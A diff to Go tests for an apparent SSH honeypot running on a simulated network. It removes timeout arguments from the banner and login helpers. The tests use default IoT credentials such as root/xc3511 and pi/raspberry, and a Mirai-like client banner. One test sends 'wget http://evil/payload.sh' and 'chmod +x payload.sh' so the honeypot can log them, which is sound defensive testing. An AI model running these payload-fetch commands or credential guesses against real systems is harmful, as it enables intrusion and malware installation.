@@ -28,7 +28,7 @@ func startServer(t *testing.T, cfg Config) (*netsim.ServiceConn, func() []Event)
 
 func TestGrabBanner(t *testing.T) {
 	client, _ := startServer(t, Config{Version: "SSH-2.0-OpenSSH_5.1p1 Debian-5"})
-	banner, err := GrabBanner(client, time.Second)
+	banner, err := GrabBanner(client)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -39,10 +39,10 @@ func TestGrabBanner(t *testing.T) {
 
 func TestLoginAcceptAll(t *testing.T) {
 	client, events := startServer(t, Config{AcceptAll: true})
-	if _, err := GrabBanner(client, time.Second); err != nil {
+	if _, err := GrabBanner(client); err != nil {
 		t.Fatal(err)
 	}
-	ok, err := Login(client, "SSH-2.0-Go", "root", "xc3511", time.Second)
+	ok, err := Login(client, "SSH-2.0-Go", "root", "xc3511")
 	if err != nil || !ok {
 		t.Fatalf("Login = %v, %v", ok, err)
 	}
@@ -62,15 +62,15 @@ func TestLoginAcceptAll(t *testing.T) {
 
 func TestLoginRejectedAttemptsLogged(t *testing.T) {
 	client, events := startServer(t, Config{MaxAttempts: 3})
-	if _, err := GrabBanner(client, time.Second); err != nil {
+	if _, err := GrabBanner(client); err != nil {
 		t.Fatal(err)
 	}
-	ok, err := Login(client, "SSH-2.0-bot", "admin", "admin", time.Second)
+	ok, err := Login(client, "SSH-2.0-bot", "admin", "admin")
 	if err != nil || ok {
 		t.Fatalf("Login = %v, %v", ok, err)
 	}
 	for _, cred := range []Credential{{"root", "root"}, {"user", "user"}} {
-		if ok, _ := Attempt(client, cred.Username, cred.Password, time.Second); ok {
+		if ok, _ := Attempt(client, cred.Username, cred.Password); ok {
 			t.Fatal("attempt accepted")
 		}
 	}
@@ -86,23 +86,23 @@ func TestLoginRejectedAttemptsLogged(t *testing.T) {
 
 func TestCredentialMap(t *testing.T) {
 	client, _ := startServer(t, Config{Credentials: map[string]string{"pi": "raspberry"}})
-	if _, err := GrabBanner(client, time.Second); err != nil {
+	if _, err := GrabBanner(client); err != nil {
 		t.Fatal(err)
 	}
-	if ok, _ := Login(client, "SSH-2.0-x", "pi", "wrong", time.Second); ok {
+	if ok, _ := Login(client, "SSH-2.0-x", "pi", "wrong"); ok {
 		t.Fatal("wrong password accepted")
 	}
-	if ok, _ := Attempt(client, "pi", "raspberry", time.Second); !ok {
+	if ok, _ := Attempt(client, "pi", "raspberry"); !ok {
 		t.Fatal("correct password rejected")
 	}
 }
 
 func TestCommandsLogged(t *testing.T) {
 	client, events := startServer(t, Config{AcceptAll: true})
-	if _, err := GrabBanner(client, time.Second); err != nil {
+	if _, err := GrabBanner(client); err != nil {
 		t.Fatal(err)
 	}
-	if ok, _ := Login(client, "SSH-2.0-mirai", "admin", "admin", time.Second); !ok {
+	if ok, _ := Login(client, "SSH-2.0-mirai", "admin", "admin"); !ok {
 		t.Fatal("login rejected")
 	}
 	for _, cmd := range []string{"wget http://evil/payload.sh", "chmod +x payload.sh", "exit"} {
